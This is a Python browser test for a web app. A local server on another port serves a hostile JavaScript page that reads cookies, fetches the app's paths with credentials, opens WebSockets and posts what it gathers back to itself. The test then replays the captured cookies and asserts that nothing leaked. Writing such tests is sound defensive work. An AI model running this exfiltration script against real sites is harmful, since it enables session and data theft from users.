"""A server of another user on this machine: what a browser sends to its port, sent again to ours, opens nothing."""

from __future__ import annotations

import contextlib
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import httpx

from tests.web import walk

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.web.serving import Served

SECRET = "Zephyrine"  # noqa: S105
PATHS = ["/", "/t/{session}", "/t/{session}/download/original", "/_nicegui_ws/socket.io/?EIO=4&transport=polling"]
HOSTILE = """<!doctype html><title>Hostile</title><script>
const page = %(page)s, paths = %(paths)s;
const read = async (path, mode) => { try { return await (await fetch(page + path, {credentials: "include", mode})).text(); } catch { return ""; } };
const socket = path => new Promise(done => {
  const made = new WebSocket(page.replace("http", "ws") + path);
  made.onmessage = event => done(event.data);
  made.onerror = made.onclose = () => done("");
});
(async () => {
  const told = [document.cookie];
  for (const path of paths) {
    await fetch(path, {credentials: "include"});
    told.push(await read(path, "cors"), await read(path, "no-cors"), await socket(path));
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
  document.title = "done";
})();
</script>"""


class Hostile:
    """A server on another port that answers with a hostile page, and keeps all that it is sent."""

    def __init__(self) -> None:
        self.page = ""
        self.sent: list[tuple[str, dict[str, str]]] = []
        self.told: list[str] = []

    def keep(self, path: str, headers: dict[str, str], body: bytes) -> None:
        self.sent.append((path, {name.lower(): value for name, value in headers.items()}))
        if body:
            self.told += json.loads(body)


@contextlib.contextmanager
def hostile_server() -> Iterator[tuple[Hostile, str]]:
    kept = Hostile()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            kept.keep(self.path, dict(self.headers), self.rfile.read(int(self.headers.get("content-length", 0))))
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(kept.page.encode())

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_said: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield kept, f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


def test_what_a_browser_sends_to_another_port_opens_nothing(browser: Any, page_server: Served) -> None:
    victim = browser.new_context()
    victim.set_default_timeout(15_000)
    tab = walk.enter(victim, page_server.link())
    walk.drop(tab, "secret.csv", f"age,{SECRET}\n" + "".join(f"{row},{row % 7}\n" for row in range(60)))
    walk.heading(tab, "What is each column").wait_for(timeout=walk.LONG)
    origin, place, _, session = tab.url.rsplit("/", 3)
    paths = [path.format(session=session) for path in PATHS]  # even if the name of the session were known
    victim.add_cookies([{"name": "seen", "value": "by-all-ports", "url": origin}])
    (key,) = [one["value"] for one in victim.cookies(tab.url) if one["name"] != "seen"]
    with hostile_server() as (hostile, address):
        hostile.page = HOSTILE % {"page": json.dumps(origin), "paths": json.dumps(paths)}
        lured = victim.new_page()
        lured.goto(address)
        lured.wait_for_function("document.title === 'done'")
    assert any("seen=by-all-ports" in headers.get("cookie", "") for _, headers in hostile.sent)
    everything = json.dumps([hostile.sent, hostile.told])
    assert [secret for secret in (key, place, SECRET, "secret.csv") if secret in everything] == []
    cookies = {headers["cookie"] for _, headers in hostile.sent if "cookie" in headers} | {f"covey={key}"}
    with httpx.Client(base_url=origin, headers={"origin": origin}) as thief:
        for cookie in cookies:
            for path in [*paths, *(sent for sent, _ in hostile.sent)]:
                for method in ("GET", "POST"):
                    assert thief.request(method, path, headers={"cookie": cookie}).status_code == 401
    victim.close()
